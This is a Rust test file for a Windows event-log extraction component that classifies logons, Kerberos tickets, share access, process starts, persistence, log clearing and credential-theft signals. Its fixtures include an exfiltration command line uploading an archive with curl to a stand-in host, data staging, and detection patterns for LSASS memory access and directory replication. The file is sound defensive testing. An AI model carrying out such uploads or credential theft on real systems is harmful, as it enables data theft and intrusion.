//! One event of each kind that matters, and what is read out of it.

use crate::extract::testing::{all_shown, classes, events, has, has_not, shape};
use crate::extract::{Class, Extraction};

fn security(id: u32, row: &[(&str, &str)]) -> Extraction {
    let mut row = row.to_vec();
    row.push(("@host", "FS01.corp.example"));
    events(&shape("windows", "Security", id), &[&row])
}

fn sysmon(id: u32, row: &[(&str, &str)]) -> Extraction {
    let mut row = row.to_vec();
    row.push(("@host", "WS01"));
    events(&shape("windows", "Microsoft-Windows-Sysmon/Operational", id), &[&row])
}

const SUBJECT: &[(&str, &str)] = &[
    ("SubjectUserSid", "S-1-5-21-1-2-3-1104"),
    ("SubjectUserName", "ann"),
    ("SubjectDomainName", "CORP"),
    ("SubjectLogonId", "0x4e13B2e"),
];

fn by_ann(rest: &[(&'static str, &'static str)]) -> Vec<(&'static str, &'static str)> {
    [SUBJECT, rest].concat()
}

#[test]
fn a_logon_over_the_network() {
    let found = security(
        4624,
        &[
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("SubjectLogonId", "0x0"),
            ("TargetUserSid", "S-1-5-21-1-2-3-1104"),
            ("TargetUserName", "ann"),
            ("TargetDomainName", "CORP.EXAMPLE"),
            ("TargetLogonId", "0x4E13B2E"),
            ("TargetLinkedLogonId", "0x0"),
            ("LogonType", "3"),
            ("LogonGuid", "{99AA2F95-42E8-8D26-D9C9-B3B0B4DB3D45}"),
            ("WorkstationName", "-"),
            ("IpAddress", "::ffff:10.0.1.5"),
            ("IpPort", "50000"),
            ("ProcessId", "0x0"),
            ("ElevatedToken", "%%1842"),
        ],
    );
    assert_eq!(classes(&found), [Class::Logon]);
    has(
        &found,
        &[
            "FS01 Actor { account: CORP\\ann, process: ProcessRef { }, address: 10.0.1.5 }",
            "step: Opened, kind: Network, key: fs01|0x4e13b2e, guid: 99AA2F95-42E8-8D26-D9C9-B3B0B4DB3D45",
            "from: Peer { address: 10.0.1.5, port: 50000 }",
            "privileged: true",
        ],
    );
    has_not(&found, &["0x0"]);
}

#[test]
fn the_systems_own_sessions_have_one_name() {
    for (user, domain) in [("Système", "AUTORITE NT"), ("SYSTEM", "NT-AUTORITÄT")] {
        let row = [
            ("TargetUserSid", "S-1-5-18"),
            ("TargetUserName", user),
            ("TargetDomainName", domain),
            ("TargetLogonId", "0x3e7"),
            ("LogonType", "5"),
        ];
        let found = security(4624, &row);
        has(&found, &["account: NT AUTHORITY\\SYSTEM", "kind: Service", "key: fs01|0x3e7"]);
        has(&found, &["from: Peer { host: FS01 }"]);
    }
}

#[test]
fn other_steps_of_sessions() {
    let found = security(4672, &by_ann(&[]));
    has(&found, &["step: Elevated", "key: fs01|0x4e13b2e", "privileged: true"]);
    let row = [("TargetUserName", "ann"), ("TargetLogonId", "0x5"), ("LogonType", "3")];
    has(&security(4634, &row), &["step: Closed", "key: fs01|0x5", "kind: Network"]);
    has(&security(4647, &row), &["step: Closed"]);
    let row = [
        ("TargetUserName", "bob"),
        ("TargetDomainName", "CORP"),
        ("TargetUserSid", "S-1-0-0"),
        ("LogonType", "10"),
        ("WorkstationName", "FS01"),
        ("IpAddress", "10.0.1.5"),
    ];
    let found = security(4625, &row);
    has(&found, &["step: Failed, kind: RemoteInteractive, account: CORP\\bob"]);
    has(&found, &["from: Peer { address: 10.0.1.5 }"]);
    let found = security(
        4648,
        &by_ann(&[
            ("TargetUserName", "adm"),
            ("TargetDomainName", "CORP"),
            ("TargetServerName", "dc01.corp.example"),
            ("TargetInfo", "dc01.corp.example"),
            ("TargetLogonGuid", "{00000000-0000-0000-0000-000000000000}"),
            ("ProcessId", "0x1f4"),
            ("ProcessName", "C:\\a.exe"),
        ]),
    );
    has(
        &found,
        &[
            "Actor { host: FS01, account: CORP\\ann, session: fs01|0x4e13b2e, process: ProcessRef { pid: 500 }, image: C:\\a.exe }",
            "step: AskedElsewhere, kind: Unknown, account: CORP\\adm",
            "to: Peer { host: dc01 }",
        ],
    );
}

#[test]
fn tickets() {
    let found = security(
        4769,
        &[
            ("TargetUserName", "ann@CORP.EXAMPLE"),
            ("TargetDomainName", "CORP.EXAMPLE"),
            ("ServiceName", "FS02$"),
            ("TicketEncryptionType", "0x17"),
            ("IpAddress", "::ffff:10.0.1.5"),
            ("Status", "0x0"),
            ("LogonGuid", "{1c8d1b4d-e893-9f66-45fe-70b068b3472f}"),
        ],
    );
    assert_eq!(classes(&found), [Class::Kerberos]);
    has(
        &found,
        &[
            "Issued, kind: KerberosService, account: CORP\\ann, everyone: false, service: FS02$",
            "issued: 1c8d1b4d-e893-9f66-45fe-70b068b3472f",
            "method: 0x17",
        ],
    );
    let row = [("TargetUserName", "x"), ("Status", "0x6"), ("IpAddress", "::1")];
    let found = security(4768, &row);
    has(&found, &["Refused, kind: KerberosTgt", "from: Peer { host: FS01 }"]);
    let row = [("TargetUserName", "x"), ("Workstation", "\\\\WS9"), ("Status", "0x0")];
    has(&security(4776, &row), &["Issued, kind: Ntlm, account: x", "from: Peer { host: WS9 }"]);
}

#[test]
fn a_file_in_a_share() {
    let row = |mask, name| {
        by_ann(&[
            ("ShareName", "\\\\*\\C$"),
            ("ShareLocalPath", "\\??\\C:\\"),
            ("IpAddress", "10.0.1.5"),
            ("RelativeTargetName", name),
            ("AccessMask", mask),
        ])
    };
    let found = security(5145, &row("0x2", "ProgramData\\a.exe"));
    assert_eq!(classes(&found), [Class::ShareAccess]);
    assert_eq!(found.activities.len(), 1);
    has(
        &found,
        &[
            "Actor { account: CORP\\ann, session: fs01|0x4e13b2e, process: ProcessRef { }, address: 10.0.1.5 }",
            "kind: Written, object: Shared { host: FS01, share: C$, path: ProgramData\\a.exe, local: C:\\ }, via: Recorded",
        ],
    );
    has(&security(5145, &row("0x120089", "a")), &["kind: Opened"]);
    has(&security(5145, &row("0x10080", "a")), &["kind: Deleted"]);
    has(&security(5145, &row("0x120080", "a")), &["kind: Listed"]);
    has(&security(5145, &row("0x120089", "\\")), &["kind: Listed", "path: , local: C:\\"]);
    let mut denied = row("0x1", "a");
    denied.push(("Keywords", "-9218868437227405312"));
    has(&security(5145, &denied), &["kind: Denied"]);
    let mut pipe = row("0x3", "svcctl");
    pipe[4] = ("ShareName", "\\\\*\\IPC$");
    let found = security(5145, &pipe);
    has(&found, &["kind: Opened, object: Other { service: pipe, id: svcctl }"]);
    has(&security(5140, &row("0x1", "")), &["kind: Listed, object: Shared"]);
}

#[test]
fn a_process() {
    let found = security(
        4688,
        &by_ann(&[
            ("NewProcessId", "0xfec"),
            ("NewProcessName", "C:\\b.exe"),
            ("ProcessId", "0x4a0"),
            ("ParentProcessName", "C:\\a.exe"),
            ("CommandLine", "b.exe -x"),
            ("TargetUserName", "-"),
            ("TargetLogonId", "0x0"),
        ]),
    );
    assert_eq!(classes(&found), [Class::Process]);
    has(
        &found,
        &[
            "session: fs01|0x4e13b2e, process: ProcessRef { pid: 1184 }, image: C:\\a.exe }",
            "Started, process: ProcessRef { pid: 4076 }, session: fs01|0x4e13b2e, account: CORP\\ann, parent: ProcessRef { pid: 1184 }, image: C:\\b.exe, command: \"b.exe -x\"",
        ],
    );
}

#[test]
fn a_process_as_sysmon_has_it() {
    let found = sysmon(
        1,
        &[
            ("ProcessGuid", "{B34BC01C-7FAE-5F63-1000-000000000400}"),
            ("ProcessId", "880"),
            ("Image", "C:\\b.exe"),
            ("CommandLine", "b.exe"),
            ("User", "CORP\\ann"),
            ("LogonId", "0x4d2"),
            (
                "Hashes",
                "SHA1=5009839791AAD710921715D5B51E7A9A963B09F5,MD5=91C04C34E7145EDF11B0A9E96698763E,IMPHASH=DE31D6A28F9C02A2C0EEBBE6E4B686A2",
            ),
            ("ParentProcessGuid", "{b34bc01c-7fae-5f63-0f00-000000000400}"),
            ("ParentProcessId", "77"),
            ("ParentImage", "C:\\a.exe"),
        ],
    );
    has(
        &found,
        &[
            "WS01 Actor { host: WS01, account: CORP\\ann, session: ws01|0x4d2, process: ProcessRef { guid: b34bc01c-7fae-5f63-0f00-000000000400, pid: 77 }, image: C:\\a.exe }",
            "hashes: [5009839791AAD710921715D5B51E7A9A963B09F5, 91C04C34E7145EDF11B0A9E96698763E]",
        ],
    );
}

#[test]
fn memory_of_lsass() {
    let row = |mask, by| {
        [
            ("SourceImage", by),
            ("SourceProcessGUID", "{b34bc01c-7fae-5f63-0f00-000000000400}"),
            ("SourceProcessId", "77"),
            ("TargetImage", "C:\\Windows\\System32\\LSASS.exe"),
            ("GrantedAccess", mask),
        ]
    };
    let found = sysmon(10, &row("0x1410", "C:\\a.exe"));
    has(&found, &["Accessed", "rights: 5136"]);
    has(&found, &["Taken, kind: Password, everyone: false", "image: C:\\a.exe"]);
    has_not(&sysmon(10, &row("0x1400", "C:\\a.exe")), &["Taken"]);
    has_not(&sysmon(10, &row("0x1410", "C:\\Windows\\system32\\csrss.exe")), &["Taken"]);
    let process = by_ann(&[
        ("ObjectType", "Process"),
        ("ObjectName", "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe"),
        ("AccessMask", "0x10"),
        ("ProcessName", "C:\\a.exe"),
        ("ProcessId", "0x10"),
    ]);
    has(&security(4663, &process), &["Taken, kind: Password"]);
}

#[test]
fn the_directory_is_replicated() {
    let properties = "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}";
    let found = security(4662, &by_ann(&[("Properties", properties), ("AccessMask", "0x100")]));
    assert_eq!(classes(&found), [Class::DirectoryAccess]);
    has(&found, &["account: CORP\\ann", "Taken, kind: Password, everyone: true"]);
    has(&found, &["Taken, kind: SigningKey, everyone: true"]);
}

#[test]
fn files_that_are_watched() {
    let row = |mask| {
        by_ann(&[
            ("ObjectType", "File"),
            ("ObjectName", "D:\\Plans\\a.docx"),
            ("AccessMask", mask),
            ("ProcessId", "0x10"),
        ])
    };
    let found = security(4663, &row("0x1"));
    assert_eq!(classes(&found), [Class::FileAccess]);
    has(&found, &["kind: Read, object: File { host: FS01, path: D:\\Plans\\a.docx }"]);
    has(&security(4656, &row("0x1")), &["kind: Opened"]);
    let mut denied = row("0x1");
    denied.push(("Keywords", "0x8010000000000000"));
    has(&security(4656, &denied), &["kind: Denied"]);
    has_not(
        &security(4663, &by_ann(&[("ObjectType", "Key"), ("ObjectName", "\\REGISTRY\\A")])),
        &["Touch"],
    );
    let row = [("TargetFilename", "D:\\x"), ("Image", "C:\\a.exe"), ("ProcessGuid", "{1}")];
    has(&sysmon(11, &row), &["kind: Written, object: File { host: WS01, path: D:\\x }"]);
    has(&sysmon(23, &row), &["kind: Deleted"]);
}

#[test]
fn connections() {
    let row = [
        ("Initiated", "false"),
        ("SourceIp", "10.0.1.5"),
        ("DestinationIp", "10.0.1.6"),
        ("DestinationPort", "445"),
        ("Image", "System"),
        ("Protocol", "tcp"),
    ];
    let found = sysmon(3, &row);
    has(&found, &["Actor { process: ProcessRef { }, address: 10.0.1.5 }"]);
    has(&found, &["server: Peer { host: WS01, address: 10.0.1.6, port: 445 }"]);
    let row = [
        ("Direction", "%%14593"),
        ("SourceAddress", "10.0.1.6"),
        ("DestAddress", "192.0.2.7"),
        ("DestPort", "443"),
        ("Protocol", "6"),
        ("ProcessId", "500"),
        ("Application", "\\device\\harddiskvolume2\\a.exe"),
    ];
    let found = security(5156, &row);
    has(
        &found,
        &[
            "host: FS01, process: ProcessRef { pid: 500 }",
            "server: Peer { address: 192.0.2.7, port: 443 }",
        ],
    );
    let row = [("SourceAddress", "::1"), ("DestAddress", "::1"), ("Direction", "%%14593")];
    assert!(all_shown(&security(5156, &row)).is_empty());
}

fn log(channel: &str, id: u32, row: &[(&str, &str)]) -> Extraction {
    let mut row = row.to_vec();
    row.push(("@host", "FS01"));
    events(&shape("windows", channel, id), &[&row])
}

#[test]
fn services_and_tasks() {
    let row = by_ann(&[
        ("ServiceName", "Up"),
        ("ServiceFileName", "cmd /c copy C:\\a D:\\b"),
        ("ServiceAccount", "LocalSystem"),
    ]);
    let found = security(4697, &row);
    assert_eq!(classes(&found), [Class::Persistence]);
    has(&found, &["session: fs01|0x4e13b2e", "Installed", "label: service Up", "SYSTEM"]);
    has(&found, &["Staged, object: File { host: FS01, path: C:\\a }, via: Commanded", "to: D:\\b"]);
    let row = [("ServiceName", "Up"), ("ImagePath", "C:\\a.exe -x"), ("UserID", "S-1-5-18")];
    let found = log("System", 7045, &row);
    has(&found, &["account: NT AUTHORITY\\SYSTEM", "Installed", "image: C:\\a.exe"]);
    let content = "<Task><Actions><Exec><Command>C:\\a.exe</Command><Arguments>-x &amp; y</Arguments></Exec></Actions><Principals><UserId>S-1-5-18</UserId></Principals></Task>";
    let row = by_ann(&[("TaskName", "\\Up"), ("TaskContent", content)]);
    let found = security(4698, &row);
    has(&found, &["Installed", "account: NT AUTHORITY\\SYSTEM", "command: \"C:\\\\a.exe -x & y\""]);
    has(&security(4699, &row), &["Removed", "label: task \\Up"]);
    let row = [("TaskName", "\\Up"), ("UserContext", "CORP\\ann")];
    let found = log("Microsoft-Windows-TaskScheduler/Operational", 106, &row);
    has(&found, &["account: CORP\\ann", "Installed"]);
    let key = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Up";
    let row = [("EventType", "SetValue"), ("TargetObject", key), ("Details", "C:\\a.exe")];
    has(&sysmon(13, &row), &["Installed", "label: run key Up", "C:\\\\a.exe"]);
}

#[test]
fn accounts() {
    let target =
        [("TargetUserName", "eve"), ("TargetDomainName", "CORP"), ("TargetSid", "S-1-5-21-9")];
    let row = by_ann(&target);
    has(&security(4720, &row), &["Created, kind: Account, account: CORP\\eve", "CORP\\ann"]);
    has(&security(4724, &row), &["Rolled, kind: Password"]);
    has(&security(4726, &row), &["Revoked, kind: Account"]);
    let mut changed = row.clone();
    changed.push(("PasswordLastSet", "%%1794"));
    has_not(&security(4738, &changed), &["Rolled"]);
    changed.push(("AllowedToDelegateTo", "cifs/fs01"));
    has(&security(4738, &changed), &["Created, kind: Role, account: CORP\\eve", "cifs/fs01"]);
    let row = by_ann(&[
        ("TargetUserName", "Domänen-Admins"),
        ("TargetDomainName", "CORP"),
        ("TargetSid", "S-1-5-21-1-2-3-512"),
        ("MemberName", "CN=eve,CN=Users,DC=corp,DC=example"),
    ]);
    let found = security(4728, &row);
    has(&found, &["Created, kind: Role, account: CORP\\eve", "method: S-1-5-21-1-2-3-512"]);
    let row = by_ann(&[
        ("ObjectDN", "CN=eve,CN=Users,DC=corp,DC=example"),
        ("ObjectClass", "user"),
        ("AttributeLDAPDisplayName", "msDS-KeyCredentialLink"),
        ("OperationType", "%%14674"),
    ]);
    has(&security(5136, &row), &["Created, kind: Password, account: corp\\eve"]);
}

#[test]
fn losses() {
    has(&security(1102, &by_ann(&[])), &["CORP\\ann", "kind: Cleared, channel: Security"]);
    let found = log(
        "System",
        104,
        &[("Provider_Name", "Microsoft-Windows-Eventlog"), ("LogFileCleared.Channel", "Setup")],
    );
    has(&found, &["kind: Cleared, channel: Setup"]);
    has(&security(1100, &[]), &["kind: Stopped"]);
    let row =
        by_ann(&[("AuditPolicyChanges", "%%8448, %%8451"), ("SubcategoryGuid", "{0cce9215}")]);
    let found = security(4719, &row);
    has(&found, &["Narrowed", "what: {0cce9215}"]);
    has(&found, &["Widened"]);
    let row = [
        ("PreviousTime", "2024-01-01T00:00:00.0000000Z"),
        ("NewTime", "2024-01-01T01:00:00.0000000Z"),
    ];
    let found = security(4616, &row);
    has(&found, &["ClockSet { from: 1704067200000000000, to: 1704070800000000000 }"]);
    let row = [("Provider_Name", "Microsoft-Windows-Kernel-General")];
    has(&log("System", 13, &row), &["kind: Down"]);
    assert!(all_shown(&log("System", 13, &[("Provider_Name", "Other")])).is_empty());
    let found = log("Microsoft-Windows-Windows Defender/Operational", 5001, &[]);
    has(&found, &["kind: Stopped"]);
}

#[test]
fn remote_ways() {
    let row = [("User", "CORP\\ann"), ("Address", "10.0.1.5"), ("SessionID", "2")];
    let found = log("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", 21, &row);
    assert_eq!(classes(&found), [Class::Other]);
    has(&found, &["Opened, kind: RemoteInteractive, account: CORP\\ann", "address: 10.0.1.5"]);
    let row = [("User", "CORP\\ann"), ("Address", "LOKAL")];
    let found = log("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", 21, &row);
    has(&found, &["kind: Interactive", "from: Peer { host: FS01 }"]);
    let row =
        [("connection", "srv.corp.example/wsman?PSVersion=5.1"), ("Execution_ProcessID", "7")];
    let found = log("Microsoft-Windows-WinRM/Operational", 6, &row);
    has(&found, &["pid: 7", "AskedElsewhere, kind: RemoteShell", "to: Peer { host: srv }"]);
    let row = [("ClientIP", "[10.0.2.16]:59407")];
    let found = log("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", 131, &row);
    has(&found, &["Seen", "from: Peer { address: 10.0.2.16, port: 59407 }"]);
}

#[test]
fn scripts() {
    let channel = "Microsoft-Windows-PowerShell/Operational";
    let row = [
        ("ScriptBlockText", "Compress-Archive C:\\Plans o.zip"),
        ("Execution_ProcessID", "77"),
        ("UserID", "S-1-5-21-1"),
    ];
    let found = log(channel, 4104, &row);
    assert_eq!(classes(&found), [Class::Script]);
    has(&found, &["step: Script, process: ProcessRef { pid: 77 }"]);
    has(&found, &["kind: Staged, object: File { host: FS01, path: C:\\Plans }", "to: o.zip"]);
    let row = [
        ("CommandLine", "curl -T o.7z https://x.example/u"),
        ("CurrentDirectory", "C:\\t\\"),
        ("ProcessGuid", "{a}"),
    ];
    let found = sysmon(1, &row);
    has(&found, &["guid: a", "server_name: x.example", "FileSent { name: o.7z", "upload: true"]);
    has(&found, &["kind: Staged, object: File { host: WS01, path: C:\\t\\o.7z }"]);
    let row =
        [("CommandLine", "cmd /c type C:\\a > \\\\127.0.0.1\\ADMIN$\\o"), ("ProcessGuid", "{a}")];
    let found = sysmon(1, &row);
    has(&found, &["Written, object: Shared { host: WS01, share: ADMIN$, path: o }"]);
}

#[test]
fn an_account_with_only_its_sid_is_the_one_that_has_it_elsewhere() {
    let shell = "Microsoft-Windows-PowerShell/Operational";
    let row =
        [("ScriptBlockText", "Get-Date"), ("UserID", "S-1-5-21-1-2-3-1104"), ("@host", "WS01")];
    let mut found = events(&shape("windows", shell, 4104), &[&row]);
    has(&found, &["account: S-1-5-21-1-2-3-1104"]);
    let logon = [
        ("TargetUserSid", "S-1-5-21-1-2-3-1104"),
        ("TargetUserName", "ann"),
        ("TargetDomainName", "CORP"),
        ("LogonType", "3"),
        ("@host", "FS01"),
    ];
    crate::extract::testing::add(&mut found, &shape("windows", "Security", 4624), &[&logon]);
    found.join();
    has(&found, &["step: Script", "account: CORP\\ann"]);
    has_not(&found, &["S-1-5-21-1-2-3-1104"]);
}

#[test]
fn federation() {
    let row = [
        ("Provider_Name", "AD FS Auditing"),
        ("Data", "8f4a0c1e-0000-4000-8000-000000000001"),
        (
            "Data",
            "<AuditBase><UserId>CORP\\ann</UserId><IpAddress>10.0.1.5</IpAddress></AuditBase>",
        ),
    ];
    let found = log("Security", 1200, &row);
    assert_eq!(classes(&found), [Class::SignIn]);
    has(&found, &["Issued, kind: Token, account: CORP\\ann", "address: 10.0.1.5"]);
    let row = [("PipeName", "\\MICROSOFT##WID\\tsql\\query"), ("Image", "C:\\a.exe")];
    has(&sysmon(18, &row), &["Taken, kind: SigningKey, everyone: true"]);
}

mod properties {
    use proptest::prelude::*;

    use super::super::fields::FIELDS;
    use crate::extract::testing::{all_shown, events, shape};

    const CHANNELS: &[&str] = &[
        "Security",
        "System",
        "Windows PowerShell",
        "Microsoft-Windows-Sysmon/Operational",
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-TaskScheduler/Operational",
        "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
        "Microsoft-Windows-WinRM/Operational",
        "Microsoft-Windows-Bits-Client/Operational",
        "",
    ];

    const VALUES: &[&str] = &[
        "0x0",
        "0",
        "-",
        "%%1842",
        "0x3e7",
        "{00000000-0000-0000-0000-000000000000}",
        "\\",
        "\\\\",
        "S-1-5-18",
        "S-1-5-21-1",
        "::1",
        "fe80::1%3",
        "10.0.0.1",
        "CN=",
        "cn=a\\,b,DC=",
        "a\\b",
        "a@b",
        "lsass.exe",
        "<Command>",
        "</Command>",
        "\u{130}",
        "99999999999999999999",
        "-1",
        "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2",
        "\\\\*\\C$",
        "\\\\*\\IPC$",
        "ntds.dit",
        "cmd /c \"",
    ];

    proptest! {
        #[test]
        fn whatever_fields_hold(
            channel in prop::sample::select(CHANNELS),
            id in prop_oneof![0_u32..30, 1100_u32..1205, 4600_u32..5160, 0_u32..9000],
            row in prop::collection::vec(
                (prop::sample::select(FIELDS), prop_oneof![prop::sample::select(VALUES).prop_map(str::to_owned), "\\PC{0,12}"]),
                0..24,
            ),
        ) {
            let mut row: Vec<(&str, &str)> = row.iter().map(|(f, v)| (*f, v.as_str())).collect();
            row.push(("@host", "FS01"));
            let found = events(&shape("windows", channel, id), &[&row]);
            for text in all_shown(&found) {
                prop_assert!(!text.contains("|0x0,") && !text.contains("|0x0 "), "{}", text);
            }
        }
    }
}
